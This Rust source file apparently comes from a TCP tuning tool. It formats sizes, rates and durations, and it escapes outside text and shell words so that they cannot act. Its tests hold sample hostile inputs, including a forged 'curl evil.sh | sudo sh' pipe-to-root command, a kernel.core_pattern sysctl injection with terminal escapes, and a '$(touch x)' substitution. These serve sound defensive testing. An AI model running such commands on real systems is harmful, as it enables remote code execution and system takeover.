//! Words and numbers for people and shells, with honest units: exact bytes with IEC beside
//! them, SI rates, milliseconds, JSON numbers that stay exact, one-line comments and shell
//! words. A leaf: the domain modules and the output layer both use it, and it uses only
//! `units`, so neither has to import the other for a number.

/// "9375000 bytes (8.94 MiB)": exact bytes first, IEC for the eye.
pub fn bytes(n: u64) -> String {
    if n < 1024 {
        format!("{n} bytes")
    } else {
        // The exact count, then its size for people at three or four figures ([`size`]).
        format!("{n} bytes ({})", size(n))
    }
}

/// `v` with `digits` significant figures for people, trailing zeros trimmed: `53.7`, `8.94`,
/// `0.0095`; a value with more whole digits than that keeps them all (`610`, `1055`), so no
/// number a person reads is longer than it must be, nor shown as 0 when it is not.
pub fn sig(v: f64, digits: u32) -> String {
    if !v.is_finite() {
        return format!("{v}");
    }
    if v == 0.0 {
        return "0".to_string();
    }
    // Below a ten-thousandth the usual rounding would show a row of zeros: scientific.
    if v.abs() < 1e-4 {
        let s = significant(v.abs());
        return if v < 0.0 { format!("-{s}") } else { s };
    }
    let digits = i32::try_from(digits.max(1)).unwrap_or(3);
    #[allow(clippy::cast_possible_truncation)]
    let magnitude = v.abs().log10().floor() as i32;
    let decimals = (digits - 1 - magnitude).max(0);
    #[allow(clippy::cast_sign_loss)]
    let shown = format!("{v:.prec$}", prec = decimals as usize);
    // Rounding may carry into a new digit (9.996 → 10.00): trim what is left over.
    if shown.contains('.') {
        shown.trim_end_matches('0').trim_end_matches('.').to_string()
    } else {
        shown
    }
}

/// A size for people: IEC units with three significant figures (`53.7 MiB`, `610 KiB`,
/// `6 MiB`, `512 bytes`). Exact bytes belong on setting lines and in JSON, not here.
pub fn size(n: u64) -> String {
    const UNITS: [&str; 6] = ["KiB", "MiB", "GiB", "TiB", "PiB", "EiB"];
    if n < 1024 {
        return format!("{n} bytes");
    }
    #[allow(clippy::cast_precision_loss)]
    let mut v = n as f64 / 1024.0;
    let mut unit = 0;
    // 1023.9 KiB reads as 1024 KiB at three figures: show it as 1 MiB instead.
    while v >= 1023.5 && unit + 1 < UNITS.len() {
        v /= 1024.0;
        unit += 1;
    }
    format!("{} {}", sig(v, 3), UNITS[unit])
}

/// A duration in milliseconds for people: `150 ms`, `301 ms`, `0.25 ms`, `12.3 ms`.
pub fn millis(ms: f64) -> String {
    format!("{} ms", sig(ms, 3))
}

/// A duration in seconds for people: `12.3 s`, `10 s`, `0.5 s`.
pub fn secs(s: f64) -> String {
    format!("{} s", sig(s, 3))
}

/// A long time for people, in the unit that reads best: `42 s`, `12.5 min`, `5.56 h`, `2.31 days`.
pub fn took(s: f64) -> String {
    match s {
        s if s < 60.0 => secs(s),
        s if s < 3600.0 => format!("{} min", sig(s / 60.0, 3)),
        s if s < 2.0 * 86_400.0 => format!("{} h", sig(s / 3600.0, 3)),
        s => format!("{} days", sig(s / 86_400.0, 3)),
    }
}

/// A percentage for people, with the one percent style: a space before `%`, two significant
/// figures below 10 (`0.0095 %`, `0.48 %`, `2.5 %`), whole from 10 up (`68 %`, `795 %`).
pub fn pct(p: f64) -> String {
    format!("{} %", sig(p, 2))
}

/// A change given in percent, said in the one ratio style of a change: the multiple it came
/// to (`+68 %` is `1.68 \u{d7}`, `-50 %` is `0.5 \u{d7}`, `+26331 %` is `264 \u{d7}`), so a
/// column of changes reads one way, in at most 3 significant figures.
pub fn pct_change(p: f64) -> String {
    times(1.0 + p / 100.0)
}

/// A multiple for people, with the one multiplication sign: `6 ×`, `2.5 ×`, `1.01 ×`.
pub fn times(f: f64) -> String {
    format!("{} \u{d7}", sig(f, 3))
}

/// A count with thousands separators: `283,158`.
pub fn count(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// A series as one line of at most `width` bars (`▁▂▃▄▅▆▇█`, scaled to its highest value;
/// neighbouring values averaged into one bar where there are more than `width`), a bar whose
/// values include a `marked` one drawn `×` instead. Empty for an empty series.
pub fn sparkline(values: &[f64], marked: &[bool], width: usize) -> String {
    const BARS: [char; 8] = [
        '\u{2581}', '\u{2582}', '\u{2583}', '\u{2584}', '\u{2585}', '\u{2586}', '\u{2587}', '\u{2588}',
    ];
    let n = values.len();
    if n == 0 || width == 0 {
        return String::new();
    }
    let bars = n.min(width);
    let buckets: Vec<(f64, bool)> = (0..bars)
        .map(|b| {
            let (from, to) = (b * n / bars, ((b + 1) * n / bars).max(b * n / bars + 1));
            let part = &values[from..to];
            #[allow(clippy::cast_precision_loss)]
            let mean = part.iter().sum::<f64>() / part.len() as f64;
            (mean, (from..to).any(|i| marked.get(i).copied().unwrap_or(false)))
        })
        .collect();
    let top = buckets.iter().map(|b| b.0).fold(0.0, f64::max);
    buckets
        .iter()
        .map(|&(v, mark)| {
            if mark {
                return '\u{d7}';
            }
            #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
            let level = if top > 0.0 {
                ((v / top) * 7.0).round() as usize
            } else {
                0
            };
            BARS[level.min(7)]
        })
        .collect()
}

/// SI prefixes of bit/s, each 1000 times the one before (up to quetta, 10^30).
const RATE_UNITS: [&str; 11] = [
    "bit/s", "kbit/s", "Mbit/s", "Gbit/s", "Tbit/s", "Pbit/s", "Ebit/s", "Zbit/s", "Ybit/s", "Rbit/s", "Qbit/s",
];

/// The lowest and highest of `samples` (bit/s) for people: "497 Mbit/s to 2.6 Gbit/s", or the
/// one rate when they agree; None without samples.
#[allow(clippy::cast_precision_loss)]
pub fn rate_range(samples: &[u64]) -> Option<String> {
    let lo = *samples.iter().min()?;
    let hi = *samples.iter().max()?;
    Some(if lo == hi {
        rate(lo as f64)
    } else {
        format!("{} to {}", rate(lo as f64), rate(hi as f64))
    })
}

/// A rate from a float of bit/s, SI, rounded to 4 significant digits for people (the JSON
/// carries the exact number), in the unit of its size however large (`8 Zbit/s`, not a
/// number that overflowed) and never 0 when the rate is not: below 1 bit/s it keeps its
/// digits (`0.0001 bit/s`, `2.5e-12 bit/s`). Whole bit/s from 0.5 up, as before.
pub fn rate(bps: f64) -> String {
    if !bps.is_finite() || bps < 0.0 {
        return format!("{bps:.3} bit/s");
    }
    if bps == 0.0 {
        return "0 bit/s".to_string();
    }
    if bps < 0.5 {
        return format!("{} bit/s", significant(bps));
    }
    // Past 1000 Qbit/s no prefix is left: scientific, in bit/s.
    if bps >= 1e33 {
        return format!("{} bit/s", significant(bps));
    }
    // Below 1e33, so the whole number, its rounding and the sums below fit a u128 (3.4e38).
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let whole = bps.round() as u128;
    let scale = 10u128.pow(whole.ilog10().saturating_sub(3));
    let shown = (whole + scale / 2) / scale * scale;
    let unit = (shown.ilog10() / 3).min(10);
    format!("{} {}", decimal(shown, 3 * unit), RATE_UNITS[unit as usize])
}

/// `value / 10^digits` exactly, trailing fractional zeros trimmed.
fn decimal(value: u128, digits: u32) -> String {
    let unit = 10u128.pow(digits);
    let (int, frac) = (value / unit, value % unit);
    if frac == 0 {
        return int.to_string();
    }
    let frac = format!("{frac:0width$}", width = digits as usize);
    format!("{int}.{}", frac.trim_end_matches('0'))
}

/// A positive float with 4 significant digits, for values the usual rounding would show as 0
/// or as a row of digits: plain from 0.001 up to 1 (`0.0125`), else scientific (`2.5e-12`,
/// `1.476e35`).
pub fn significant(v: f64) -> String {
    let sci = format!("{v:.3e}");
    let (mantissa, exp) = sci.split_once('e').unwrap_or((&sci, "0"));
    let exp: i32 = exp.parse().unwrap_or(0);
    if (-3..0).contains(&exp) {
        #[allow(clippy::cast_sign_loss)]
        let plain = format!("{v:.prec$}", prec = (3 - exp) as usize);
        return plain.trim_end_matches('0').trim_end_matches('.').to_string();
    }
    let mantissa = mantissa.trim_end_matches('0').trim_end_matches('.');
    format!("{mantissa}e{exp}")
}

/// A JSON number that is an integer when the value is whole, so exact byte counts stay exact.
pub fn number(v: f64) -> serde_json::Value {
    if v.fract() == 0.0 && v.abs() <= 9.007_199_254_740_992e15 {
        #[allow(clippy::cast_possible_truncation)]
        serde_json::Value::from(v as i64)
    } else {
        serde_json::Number::from_f64(v).map_or(serde_json::Value::Null, serde_json::Value::Number)
    }
}

/// Text from outside shown so it cannot act: control characters (a newline would start a
/// live `key = value` line in a sysctl file, or a forged line on a terminal; ESC starts a
/// terminal escape sequence), the Unicode line separators and the bidirectional overrides
/// print as visible escapes (`\u{a}`, `\u{1b}`). Everything else is kept.
pub fn escape(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_control()
                || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            {
                c.escape_unicode().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// Text for a `#` comment line: one line whatever it holds ([`escape`]). Profiles refuse
/// control characters already; this holds for every other source too.
pub fn comment(s: &str) -> String {
    escape(s)
}

/// Text that came from outside tcptune — a peer, another process, the kernel's names, a file
/// tcptune does not own — kept as received and shown only escaped ([`escape`]): its `Display`
/// and its JSON are the escaped text, so it cannot reach a terminal, a sysctl file, YAML, INI
/// or JSON raw. Wrap it where it enters; compare with [`Foreign::raw`].
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Deserialize)]
#[serde(transparent)]
pub struct Foreign(String);

impl Foreign {
    pub fn new(s: impl Into<String>) -> Self {
        Self(s.into())
    }

    /// As received: for comparisons and lookups, never for output.
    pub fn raw(&self) -> &str {
        &self.0
    }

    /// As shown.
    pub fn escaped(&self) -> String {
        escape(&self.0)
    }
}

impl std::fmt::Display for Foreign {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.escaped())
    }
}

impl serde::Serialize for Foreign {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.escaped())
    }
}

/// One word for a POSIX shell: single-quoted, each `'` written `'\''`, so nothing in it
/// (`$(...)`, backquotes, `;`, a newline) is interpreted. Plain words stay unquoted. Exact:
/// the shell reads back `s` itself; for text tcptune writes, use [`shell_word`].
pub fn shell_quote(s: &str) -> String {
    if !s.is_empty() && s.chars().all(shell_plain) {
        return s.to_string();
    }
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// Whether a POSIX shell takes `c` as itself outside quotes: the characters [`shell_quote`]
/// leaves unquoted, and the only ones a reader of its words accepts there.
pub fn shell_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '=' | '/' | ':' | ',' | '+' | '@' | '%')
}

/// The one rule for every word tcptune writes for a shell or a paste — the commands of
/// `--format shell`, a file's route line, the hints in comments, the fixes `check` and
/// `verify` give: [`shell_quote`] of the word, with any control character first made visible
/// ([`escape`]) so that no terminal acts on it. A word without control characters reads back
/// exactly; one with them is refused before it is written where it would run (see
/// `route::printable`).
pub fn shell_word(s: &str) -> String {
    shell_quote(&escape(s))
}

/// Milliseconds rounded to the microsecond, as a JSON-friendly float.
pub fn ms(v: f64) -> f64 {
    (v * 1000.0).round() / 1000.0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_range_of_rates_is_its_ends_or_its_one_rate() {
        assert_eq!(
            rate_range(&[500_000_000, 2_600_000_000, 497_000_000]).as_deref(),
            Some("497 Mbit/s to 2.6 Gbit/s")
        );
        assert_eq!(rate_range(&[50_000_000, 50_000_000]).as_deref(), Some("50 Mbit/s"));
        assert_eq!(rate_range(&[]), None);
    }

    #[test]
    fn a_sparkline_scales_to_its_top_and_marks_what_is_marked() {
        assert_eq!(sparkline(&[0.0, 50.0, 100.0], &[], 10), "\u{2581}\u{2585}\u{2588}");
        assert_eq!(
            sparkline(&[100.0, 100.0, 10.0, 100.0], &[false, false, true, false], 10),
            "\u{2588}\u{2588}\u{d7}\u{2588}"
        );
        // Eight values in four bars: pairs averaged, a mark in a pair marks its bar.
        let s = sparkline(
            &[0.0, 0.0, 100.0, 100.0, 50.0, 50.0, 100.0, 100.0],
            &[false, false, false, false, false, true],
            4,
        );
        assert_eq!(s, "\u{2581}\u{2588}\u{d7}\u{2588}");
        assert_eq!(sparkline(&[], &[], 10), "");
    }

    #[test]
    fn numbers_for_people_have_at_most_four_figures() {
        assert_eq!(sig(53.69, 3), "53.7");
        assert_eq!(sig(8.94, 3), "8.94");
        assert_eq!(sig(610.35, 3), "610");
        assert_eq!(sig(1055.4, 3), "1055");
        assert_eq!(sig(9.996, 3), "10");
        assert_eq!(sig(0.009_512, 2), "0.0095");
        assert_eq!(sig(-2.5, 2), "-2.5");
        assert_eq!(sig(0.0, 3), "0");
        assert_eq!(sig(4.337e-16, 3), "4.337e-16");
        assert_eq!(pct(8e-10), "8e-10 %");
        assert_eq!(pct(0.000_75), "0.00075 %");
        assert_eq!(size(56_295_424), "53.7 MiB");
        assert_eq!(size(6_291_456), "6 MiB");
        assert_eq!(size(625_000), "610 KiB");
        assert_eq!(size(212_992), "208 KiB");
        assert_eq!(size(1_048_575), "1 MiB");
        assert_eq!(size(512), "512 bytes");
        assert_eq!(size(u64::MAX), "16 EiB");
        assert_eq!(millis(301.118), "301 ms");
        assert_eq!(millis(150.197), "150 ms");
        assert_eq!(millis(0.25), "0.25 ms");
        assert_eq!(secs(12.252_955), "12.3 s");
        assert_eq!(pct(0.009_5), "0.0095 %");
        assert_eq!(pct(68.2), "68 %");
        assert_eq!(pct(1.0), "1 %");
        assert_eq!(pct_change(67.7), "1.68 \u{d7}");
        assert_eq!(pct_change(-50.0), "0.5 \u{d7}");
        assert_eq!(pct_change(1242.0), "13.4 \u{d7}");
        assert_eq!(times(6.0), "6 \u{d7}");
        assert_eq!(times(1.0123), "1.01 \u{d7}");
        assert_eq!(count(283_158), "283,158");
        assert_eq!(count(999), "999");
        assert_eq!(count(1_000), "1,000");
    }

    #[test]
    fn formats() {
        assert_eq!(bytes(9_375_000), "9375000 bytes (8.94 MiB)");
        assert_eq!(bytes(512), "512 bytes");
        assert_eq!(rate(500e6), "500 Mbit/s");
        assert_eq!(rate(3_495_253.333), "3.495 Mbit/s");
        assert_eq!(rate(14_187_444.59), "14.19 Mbit/s");
        assert_eq!(rate(0.0), "0 bit/s");
        assert_eq!(number(3_125_000.0), serde_json::json!(3_125_000));
        assert_eq!(number(62.5), serde_json::json!(62.5));
        assert_eq!(
            number(9_007_199_254_740_992.0),
            serde_json::json!(9_007_199_254_740_992_u64)
        );
    }

    /// The rate shown, read back as bit/s: mantissa × its unit's power of 1000.
    fn read_back(shown: &str) -> f64 {
        let (number, unit) = shown.split_once(' ').expect("number and unit");
        let power = RATE_UNITS.iter().position(|u| *u == unit).expect("a unit");
        number.parse::<f64>().expect("a number") * 1000f64.powi(i32::try_from(power).expect("small"))
    }

    #[test]
    fn rates_at_the_extremes_keep_their_unit_and_digits() {
        for (bps, want) in [
            // calc --window 1000000000000 --rtt 1ns: was "0 bit/s" (a wrapped u64), or a panic.
            (8e21, "8 Zbit/s"),
            (1.5e15, "1.5 Pbit/s"),
            (u64::MAX as f64, "18.45 Ebit/s"),
            // calc --window 18446744073709551615 --rtt 1ns.
            (1.475_739_525_896_764_1e29, "147.6 Rbit/s"),
            (1e30, "1 Qbit/s"),
            (9.999_6e32, "1000 Qbit/s"),
            (2.9e176, "2.9e176 bit/s"),
            (999.5, "1 kbit/s"),
            (999_960.0, "1 Mbit/s"),
            (1e12, "1 Tbit/s"),
            (0.7, "1 bit/s"),
            (0.3, "0.3 bit/s"),
            (0.012_345_6, "0.01235 bit/s"),
            (1e-4, "1e-4 bit/s"),
            (2.5e-12, "2.5e-12 bit/s"),
            (f64::MIN_POSITIVE, "2.225e-308 bit/s"),
            (f64::MAX, "1.798e308 bit/s"),
        ] {
            assert_eq!(rate(bps), want, "{bps:e}");
        }
    }

    proptest::proptest! {
        /// Any positive rate: never shown as 0, 4 significant digits of it (whole bit/s
        /// below 1 kbit/s), in one of the units.
        #[test]
        fn a_positive_rate_is_never_shown_as_zero(exp in -300.0f64..300.0, frac in 1.0f64..10.0) {
            let bps = frac * 10f64.powf(exp.floor());
            let shown = rate(bps);
            proptest::prop_assert!(!shown.starts_with("0 "), "{bps:e}: {shown}");
            if (0.5..1e33).contains(&bps) {
                let back = read_back(&shown);
                let tolerance = if bps < 1000.0 { 0.5 } else { bps * 5e-4 };
                proptest::prop_assert!((back - bps).abs() <= tolerance, "{bps:e}: {shown}");
            } else {
                let (number, unit) = shown.split_once(' ').expect("number and unit");
                proptest::prop_assert_eq!(unit, "bit/s");
                let back: f64 = number.parse().expect("a number");
                proptest::prop_assert!((back / bps - 1.0).abs() <= 5e-4, "{bps:e}: {shown}");
            }
        }
    }

    #[test]
    fn comments_stay_one_line() {
        let c = comment("r\nkernel.core_pattern = |/tmp/x\r\u{1b}[2J\u{7f}\u{2028}");
        assert!(!c.chars().any(char::is_control), "{c}");
        assert!(!c.contains('\u{2028}'));
        assert!(c.starts_with("r\\u{a}kernel.core_pattern"), "{c}");
        assert_eq!(comment("2 x BDP (8.94 MiB)"), "2 x BDP (8.94 MiB)");
    }

    #[test]
    fn foreign_text_is_shown_escaped_everywhere() {
        let forged = Foreign::new("net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u{1b}[31m");
        let shown = forged.to_string();
        assert!(!shown.chars().any(char::is_control), "{shown}");
        assert!(
            shown.contains("tcp_rmem\\u{a}\\u{a}advice") && shown.contains("\\u{1b}[31m"),
            "{shown}"
        );
        let json = serde_json::to_string(&forged).expect("json");
        assert!(!json.contains("\\n") && json.contains("\\\\u{1b}"), "{json}");
        assert_eq!(forged.raw().lines().count(), 4, "kept as received");
        let back: Foreign = serde_json::from_str("\"a\\u001bb\"").expect("from a peer");
        assert_eq!((back.raw(), back.escaped().as_str()), ("a\u{1b}b", "a\\u{1b}b"));
    }

    #[test]
    fn shell_words_are_quoted() {
        assert_eq!(shell_quote("net.ipv4.tcp_rmem=4096"), "net.ipv4.tcp_rmem=4096");
        assert_eq!(shell_quote("4096 131072 6291456"), "'4096 131072 6291456'");
        assert_eq!(shell_quote("a'b"), "'a'\\''b'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("$(touch x)"), "'$(touch x)'");
    }

    #[test]
    fn a_long_time_reads_in_its_unit() {
        assert_eq!(took(42.0), "42 s");
        assert_eq!(took(750.0), "12.5 min");
        assert_eq!(took(20_000.0), "5.56 h");
        assert_eq!(took(161_616.0), "44.9 h");
        assert_eq!(took(200_000.0), "2.31 days");
    }
}
